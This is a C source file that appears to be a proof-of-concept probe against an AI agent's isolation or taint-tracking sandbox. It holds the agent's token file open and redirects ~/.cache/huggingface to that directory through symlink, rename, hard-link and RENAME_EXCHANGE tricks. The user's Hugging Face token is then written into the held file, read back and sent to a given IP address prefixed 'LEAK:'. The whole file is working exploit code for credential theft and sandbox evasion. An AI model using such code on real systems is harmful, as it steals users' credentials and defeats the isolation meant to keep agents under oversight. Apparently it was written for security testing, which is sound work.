// namelink IP DIR LINK SECS MODE: sends PRE; holds DIR/token open (read-only, the
// agent's own file); gives LINK (~/.cache/huggingface) the directory DIR by MODE:
//   twice:  symlink(DIR, LINK), and when refused, the same call again
//   rename: symlink(DIR, DIR/../tmplink) (a name that names nothing), then
//           rename(tmplink, LINK)
//   rename-here: the same with tmplink made beside LINK (~/.cache/tmplink: one mount
//           in isolated mode, where the workspace and ~/.cache are different mounts)
//   rename-link: the same, link(tmplink, LINK) (a hard link of the symlink)
//   rename-exchange: LINK made an empty directory, then exchanged with tmplink
//   plain:  symlink(DIR, LINK) once (control: decided, refused or tainting)
// says ready, waits SECS (the user's tool writes its token into LINK/token), reads the
// held descriptor and sends what it reads.
#define _GNU_SOURCE
#include <fcntl.h>
#include <errno.h>
#include <stdio.h>
#include <sys/stat.h>
#include "../../isolated-files-r4/send.c"
int main(int argc,char**argv){ setvbuf(stdout,0,_IONBF,0); const char*ip=argv[1],*dir=argv[2],*lnk=argv[3],*mode=argv[5];
  printf("PRE send: %d\n", send_buf(ip,"PRE-TAINT-CHANNEL-OK",20));
  char p[4096]; snprintf(p,sizeof p,"%s/token",dir); int fd=open(p,O_RDONLY); if(fd<0){perror("open token");return 1;}
  int r;
  if(!strncmp(mode,"rename",6)){ char t[4096];
    if(strcmp(mode,"rename")){ snprintf(t,sizeof t,"%s",lnk); char*s=strrchr(t,'/'); strcpy(s+1,"tmplink"); }
    else snprintf(t,sizeof t,"%s/../tmplink",dir);
    r=symlink(dir,t); printf("symlink(%s, %s): %d %s\n",dir,t,r,r?strerror(errno):"");
    if(!strcmp(mode,"rename-link")){ r=link(t,lnk); printf("link(%s, %s): %d %s\n",t,lnk,r,r?strerror(errno):""); }
    else if(!strcmp(mode,"rename-exchange")){ mkdir(lnk,0755); r=renameat2(AT_FDCWD,t,AT_FDCWD,lnk,RENAME_EXCHANGE);
      printf("mkdir + renameat2(%s, %s, RENAME_EXCHANGE): %d %s\n",t,lnk,r,r?strerror(errno):""); }
    else { r=rename(t,lnk); printf("rename(%s, %s): %d %s\n",t,lnk,r,r?strerror(errno):""); }
  } else { r=symlink(dir,lnk); printf("symlink(%s, %s): %d %s\n",dir,lnk,r,r?strerror(errno):"");
    if(r&&!strcmp(mode,"twice")){ r=symlink(dir,lnk); printf("again: %d %s\n",r,r?strerror(errno):""); } }
  close(open("ready",O_CREAT|O_WRONLY,0644));
  sleep(atoi(argv[4]));
  char buf[256]={0}; ssize_t n=pread(fd,buf,255,0); printf("HELD token READS %zd bytes: %.60s\n",n,buf);
  char m[300]; int l=snprintf(m,sizeof m,"LEAK:%.60s",buf); printf("POST send: %d\n",send_buf(ip,m,l)); return 0; }
